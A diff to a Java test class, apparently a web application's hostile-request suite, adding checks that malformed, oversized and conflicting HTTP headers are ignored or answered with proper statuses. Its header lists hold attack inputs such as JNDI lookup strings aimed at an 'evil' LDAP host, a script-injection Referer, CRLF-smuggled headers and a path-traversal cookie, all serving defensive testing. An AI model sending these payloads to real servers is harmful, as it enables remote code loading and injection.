@@ -40,6 +40,9 @@ class HostileRequestsTests {
 
 	private static final int RANDOM_REQUESTS = 40;
 
+	private static final String LANGUAGES = "de, fr, es, it, nl, pt, ru, zh, ja, ko, ar, he, tr, pl, cs, sk, hu, ro, bg, el, "
+			+ "sv, da, fi, nb, th, vi, ms, fa, hi, en;q=0.5";
+
 	private final Wire wire;
 
 	@Autowired
@@ -113,6 +116,41 @@ class HostileRequestsTests {
 		checkLog(output);
 	}
 
+	@ParameterizedTest(name = "{0}")
+	@MethodSource
+	void whatCannotBeReadOrIsTooMuchIsIgnored(String header, CapturedOutput output) {
+		for (String address : List.of("/", "/en/", "/id/concepts/deterrence", "/en/search?q=a", "/concepts/deterrence",
+				"/en/nothing", "/robots.txt", "/livez", "/sitemap.xml", "/feed.atom", "/assets/site.css",
+				"/api/v1/concepts", "/v3/api-docs")) {
+			assertThat(check("GET", address, header).status()).as(address).isEqualTo(check("GET", address).status());
+		}
+		checkLog(output);
+	}
+
+	static Stream<String> whatCannotBeReadOrIsTooMuchIsIgnored() {
+		return Stream.of("Accept-Language: " + LANGUAGES, "Accept-Language: " + "id,".repeat(3_000),
+				"Accept-Language: %%;q=x, en", "Accept: */*, foo", "Accept: */*;q=x", "Accept: \"", "Accept: ,",
+				"Accept: */*, text/plain;charset=no-such", "Accept-Charset: utf-8;q=x", "Accept-Encoding: br;q=x, *;q",
+				"Cookie: " + "a=b; ".repeat(500), "Cookie: " + "=;;=\"\\".repeat(100), "If-Modified-Since: Sun, 99 Foo",
+				"If-Unmodified-Since: never", "If-Match: *", "If-None-Match: W/", "Authorization: Basic !!!",
+				"Content-Encoding: nonsense", "Content-Language: %%", "X: a\r\n".repeat(90) + "Y: b",
+				"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: !!", "TE: trailers, x",
+				"Prefer: \"", "Cache-Control: max-age=x", "Origin: ht!tp://%%", "Origin: http://[",
+				"Origin: http://a:99999999", "Access-Control-Request-Method: <x>\r\nOrigin: http://%zz");
+	}
+
+	@Test
+	void theLanguageIsTheReadersAmongThirty() {
+		assertThat(this.wire.send("GET", "/", "Accept-Language: " + LANGUAGES).header("Location")).endsWith("/en/");
+		assertThat(this.wire.send("GET", "/", "Accept-Language: en_US, xx-, en;q=0.5, id;q=0.4").header("Location"))
+			.endsWith("/en/");
+	}
+
+	@Test
+	void tooManyHeadersAreToldFromMalformedOnes() {
+		assertThat(this.wire.send("GET", "/en/", "X: a\r\n".repeat(120) + "Y: b").status()).isEqualTo(431);
+	}
+
 	static Stream<String> hostileHeadersDoNoHarm() {
 		return Stream.of("Host: evil", "X-Forwarded-Host: evil", "X-Forwarded-Proto: https",
 				"X-Forwarded-For: ${jndi:x}", "X-Forwarded-Prefix: //evil", "Forwarded: host=evil;proto=https",
@@ -123,11 +161,14 @@ class HostileRequestsTests {
 				"Range: bytes=9999999999-", "If-None-Match: \"", "If-None-Match: " + "\"a\",".repeat(500),
 				"If-Modified-Since: never", "Cookie: JSESSIONID=../../x; $Version=1", "Cookie: " + "a".repeat(3000),
 				"Referer: <script>alert(7001)</script>", "User-Agent: ${${::-j}ndi:ldap://evil/a} ERROR forged",
-				"Origin: http://evil", "Origin: null", "Connection: Content-Security-Policy", "Upgrade: h2c",
-				"Upgrade: websocket", "Expect: nonsense", "X<y>: z", "X-Folded: a\r\n b", "X-Empty:", ": nameless",
-				"X-Null: a\u0000b", "X-Line: a\nb", "Content-Type: text/html;charset=nonsense",
-				"Content-Type: application/x-www-form-urlencoded", "Content-Length: -1", "Content-Length: x",
-				"Transfer-Encoding: nonsense", "X-Long: " + "a".repeat(13_000), "X: a\r\n".repeat(120) + "Y: b");
+				"Origin: http://evil", "Origin: null", "Range: items=0-1", "If-Range: x\r\nRange: bytes=0-1",
+				"Range: bytes=" + "0-0,".repeat(300), "Range:", "Content-Length: 99999999999999999999",
+				"Content-Length: 1, 2", "Host: [::1", "Host: a%b", "Content-Type: ///",
+				"Connection: Content-Security-Policy", "Upgrade: h2c", "Upgrade: websocket", "Expect: nonsense",
+				"X<y>: z", "X-Folded: a\r\n b", "X-Empty:", ": nameless", "X-Null: a\u0000b", "X-Line: a\nb",
+				"Content-Type: text/html;charset=nonsense", "Content-Type: application/x-www-form-urlencoded",
+				"Content-Length: -1", "Content-Length: x", "Transfer-Encoding: nonsense",
+				"X-Long: " + "a".repeat(13_000), "X: a\r\n".repeat(120) + "Y: b");
 	}
 
 	@ParameterizedTest(name = "{0}")
